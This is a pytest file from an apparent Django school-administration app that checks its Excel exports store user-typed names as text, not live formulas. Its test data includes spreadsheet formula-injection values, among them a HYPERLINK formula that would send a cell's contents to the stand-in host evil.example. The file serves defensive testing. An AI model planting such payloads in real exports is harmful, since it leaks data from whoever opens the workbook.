"""Names typed by schools, providers and the bureau are written to the .xlsx exports as text, never as
formulas (findings L3: a course renamed to =HYPERLINK(…) became a live formula in the office's workbook)."""

import io

import pytest
from openpyxl import load_workbook

from jianfu.afterschool.figures.exports import export_district_figures, export_school_figures
from jianfu.afterschool.models import Course
from jianfu.afterschool.tests.factories_days import TUE
from jianfu.afterschool.tests.test_days_figures import term_of_records  # noqa: F401 (a fixture)
from jianfu.schools.models import School, Teacher

pytestmark = pytest.mark.django_db

HOSTILE = {
    "course": '=HYPERLINK("http://evil.example/?x="&A1,"机器人")',
    "teacher": "+1+1",  # the teachers' names are in the office's workbook (hours, for the subsidy)
    "head": "@SUM(1,1)",
    "school": "-2+3",
    "tabbed": "\t=1+1",
    "cr": "\r=1+1",
}


def all_cells(data):
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def test_every_text_cell_that_looks_like_a_formula_is_text_with_its_value_unchanged(world, term_of_records):  # noqa: F811
    Course.objects.filter(name="趣味编程").update(name=HOSTILE["course"])
    Course.objects.filter(name="合唱团").update(name=HOSTILE["tabbed"])
    Teacher.objects.filter(name="赵老师").update(name=HOSTILE["teacher"])
    Teacher.objects.filter(name="孙老师").update(name=HOSTILE["cr"])
    Teacher.objects.filter(name="陈老师").update(name=HOSTILE["head"])
    School.objects.filter(pk=world.school.pk).update(name=HOSTILE["school"])

    _, school_data = export_school_figures(
        actor=world.users["academic"], school_id=world.school.pk, term_id=None, as_of=TUE
    )
    _, district_data = export_district_figures(
        actor=world.users["inspector"], school_year=None, kind=None, as_of=TUE
    )
    cells = all_cells(school_data) + all_cells(district_data)
    # openpyxl reads a stored formula back with data_type "f"; on main the course name above was one.
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    written = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in HOSTILE.values():
        # XML turns a stored carriage return into a line feed when the file is read back.
        text = text.replace("\r", "\n")
        assert text in written, text  # every hostile name reached a workbook, unchanged
        assert written[text].data_type == "s" and written[text].quotePrefix, text
    # Ordinary text and numbers are untouched: no apostrophe style on them, numbers stay numbers.
    assert not written["课程"].quotePrefix
    assert any(isinstance(c.value, (int, float)) and c.data_type == "n" for c in cells)


def test_characters_a_workbook_cannot_hold_do_not_fail_the_export(world, term_of_records):  # noqa: F811
    Course.objects.filter(name="趣味编程").update(name="趣味\x01编程\x1f")
    _, data = export_school_figures(
        actor=world.users["academic"], school_id=world.school.pk, term_id=None, as_of=TUE
    )
    assert "趣味编程" in {c.value for c in all_cells(data)}
